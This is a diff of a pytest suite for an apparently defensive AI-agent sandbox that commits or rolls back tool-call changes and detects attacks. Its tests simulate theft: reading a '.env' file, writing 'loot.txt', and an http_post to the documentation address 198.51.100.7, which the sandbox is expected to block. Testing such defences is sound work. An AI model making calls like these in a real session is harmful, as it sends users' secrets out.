@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gc
 import json
 import os
 import signal
@@ -130,7 +131,7 @@ def sandboxes(repo: Path) -> list[str]:
 
 
 def test_what_a_risky_call_changed_is_committed_when_it_succeeds(repo: Path, level: IsolationLevel) -> None:
-    with agent(repo, level) as made:
+    with agent(repo, level, commit=Commit.EACH_CALL) as made:
         result = made.run_tool("write_file", path="notes.txt", text="new\n")
         assert result.success and result.sandboxed and result.value != os.getpid()
         assert result.committed == (str(repo / "notes.txt"),) and (repo / "notes.txt").read_text() == "new\n"
@@ -143,7 +144,7 @@ def test_what_a_risky_call_changed_is_committed_when_it_succeeds(repo: Path, lev
 
 
 def test_a_call_that_fails_is_rolled_back_and_its_error_is_a_value(repo: Path, level: IsolationLevel) -> None:
-    with agent(repo, level) as made:
+    with agent(repo, level, commit=Commit.EACH_CALL) as made:
         result = made.run_tool("execute_badly", path="notes.txt")
         assert not result.success and result.error == "RuntimeError: could not finish notes.txt"
         assert result.rolled_back and result.changed == () and result.committed == ()
@@ -207,7 +208,7 @@ def test_a_call_that_takes_too_much_is_ended_rolled_back_and_told(repo: Path) ->
         result = made.run_tool("execute_hog", path="notes.txt")
         assert not result.success and result.rolled_back
         assert result.execution is not None and result.execution.outcome is not None
-        if "cgroup" in result.execution.outcome.enforced["memory"].mechanism:  # else it may be its own MemoryError
+        if "cgroup" in result.execution.outcome.enforced["memory"].by:  # else it may be its own MemoryError
             assert "memory" in str(result.violations)
         assert made.run_tool("read_file", path="notes.txt").value == "old\n"  # the agent goes on
     assert (repo / "notes.txt").read_text() == "old\n"
@@ -272,11 +273,11 @@ def running(marker: str) -> bool:
 
 
 def test_an_attack_after_commits_drops_what_is_left_and_says_so(repo: Path) -> None:
-    with agent(repo) as made:
+    with agent(repo, commit=Commit.EACH_CALL) as made:
         with pytest.raises(AttackError):
             steal(made)
         assert made.sandbox.changed() == ()
-    assert (repo / "loot.txt").exists()  # what was committed stays: that is what ON_REQUEST is for
+    assert (repo / "loot.txt").exists()  # what was committed stays: that is what AT_END is for
     assert "rollback" in [entry["event"] for entry in events(made)]
 
 
@@ -286,6 +287,75 @@ def test_an_attack_is_found_also_between_calls_in_and_outside_the_sandbox(repo: 
         assert not made.run_tool("read_file", path=str(repo / ".env")).sandboxed
         with pytest.raises(AttackError):
             made.run_tool("http_post", url="http://198.51.100.7/", body="x")
+
+
+# ---- the default: kept at the end of a session without an attack
+
+
+def test_by_default_a_session_without_an_attack_ends_in_a_commit(repo: Path, level: IsolationLevel) -> None:
+    with agent(repo, level) as made:
+        assert made.run_tool("write_file", path="notes.txt", text="new\n").success
+        changed = made.run_tool("write_file", path="a.txt", text="a").changed
+        assert changed == (str(repo / "a.txt"), str(repo / "notes.txt"))
+        assert (repo / "notes.txt").read_text() == "old\n"
+    assert (repo / "notes.txt").read_text() == "new\n" and (repo / "a.txt").read_text() == "a"
+    assert events(made)[-1]["event"] == "commit" and sandboxes(repo) == []
+
+
+def test_by_default_an_attack_restores_everything(repo: Path, level: IsolationLevel) -> None:
+    before = {name: (repo / name).read_text() for name in os.listdir(repo)}
+    with agent(repo, level) as made:
+        assert made.run_tool("write_file", path="notes.txt", text="spoilt").success
+        with pytest.raises(AttackError):
+            steal(made)
+    assert {name: (repo / name).read_text() for name in os.listdir(repo)} == before
+    assert events(made)[-1]["event"] == "dropped" and sandboxes(repo) == []
+
+
+def test_an_exception_that_leaves_the_session_keeps_nothing(repo: Path) -> None:
+    with pytest.raises(RuntimeError), agent(repo) as made:
+        made.run_tool("write_file", path="notes.txt", text="new\n")
+        raise RuntimeError
+    assert (repo / "notes.txt").read_text() == "old\n" and sandboxes(repo) == []
+
+
+def test_a_reset_without_an_attack_ends_the_session_well(repo: Path) -> None:
+    with agent(repo) as made:
+        made.run_tool("write_file", path="notes.txt", text="new\n")
+        made.reset()
+        assert (repo / "notes.txt").read_text() == "new\n"
+
+
+def test_what_can_not_be_committed_at_the_end_stays_on_disk(repo: Path) -> None:
+    made = agent(repo)
+    made.run_tool("write_file", path="notes.txt", text="mine\n")
+    (repo / "notes.txt").write_text("theirs\n")
+    with pytest.raises(ConflictError) as raised:
+        made.close()
+    (kept,) = sandboxes(repo)
+    assert kept in raised.value.hint and (repo / "notes.txt").read_text() == "theirs\n"
+    assert "+mine" in made.manager.diff(made.manager.attach(kept))
+    made.manager.close()
+
+
+def test_a_tool_that_would_run_outside_sees_what_the_session_changed(repo: Path) -> None:
+    with agent(repo, risk=lambda call: 0.9 if call.tool == "write_file" else 0.1) as made:
+        assert not made.run_tool("read_file", path="notes.txt").sandboxed  # control
+        made.run_tool("write_file", path="notes.txt", text="new\n")
+        for name in ("notes.txt", str(repo / "notes.txt"), "./notes.txt"):
+            result = made.run_tool("read_file", path=name)
+            assert result.sandboxed and result.value == "new\n"
+        assert not made.run_tool("read_file", path=".env").sandboxed
+
+
+def test_an_agent_that_nobody_closes_says_where_its_changes_are(repo: Path) -> None:
+    made = agent(repo)
+    made.run_tool("write_file", path="notes.txt", text="new\n")
+    manager = made.manager
+    with pytest.warns(UserWarning, match="attach"):
+        del made
+        gc.collect()
+    manager.close()
 
 
 # ---- keeping
@@ -316,7 +386,7 @@ def test_nothing_is_kept_before_it_is_asked_for(repo: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    ("commit", "mode"), [(Commit.EACH_CALL, SandboxMode.AUTO), (Commit.ON_REQUEST, SandboxMode.ALWAYS)]
+    ("commit", "mode"), [(Commit.EACH_CALL, SandboxMode.AUTO), (Commit.AT_END, SandboxMode.ALWAYS)]
 )
 def test_what_can_not_be_kept_is_a_result_and_the_agent_goes_on(repo: Path, commit: Commit, mode: SandboxMode) -> None:
     def execute_deep() -> None:
@@ -346,7 +416,7 @@ def test_a_conflict_of_one_call_is_its_result_and_not_the_next_ones(repo: Path) 
         with open("notes.txt", "w") as file:
             file.write("mine")
 
-    with agent(repo) as made:
+    with agent(repo, commit=Commit.EACH_CALL) as made:
         made.tools["execute_meanwhile"] = execute_meanwhile
         assert made.run_tool("write_file", path="notes.txt", text="first").success
         keep = made._keep
@@ -375,7 +445,7 @@ sys.path.insert(0, sys.argv[1])
 os.chdir(sys.argv[2])
 from pathlib import Path
 import test_safe_agent as door
-with door.agent(Path(sys.argv[2])) as agent:
+with door.agent(Path(sys.argv[2]), commit=door.Commit.EACH_CALL) as agent:
     agent.run_tool("write_file", path="a.txt", text="a")
     print("ready", flush=True)
     agent.tools["execute_daemon"] = lambda marker: __import__("time").sleep(600)
@@ -423,6 +493,6 @@ def test_the_demonstration_shows_the_three_use_cases(tmp_path: Path) -> None:
     assert done.stdout.count("✗ ended") == 2 and said[2]["rolled back"] == "yes"
     assert after["act-3"] == before == said[2]["after"].split()
 
-    assert verify_audit(tmp_path / "audit.jsonl").count == 14 and said[3]["secret"] == "nowhere in it"
+    assert verify_audit(tmp_path / "audit.jsonl").count == 16 and said[3]["secret"] == "nowhere in it"
     assert said[3]["forged copy"].startswith("found: record")
     assert os.listdir(tmp_path / "sandboxes") == []
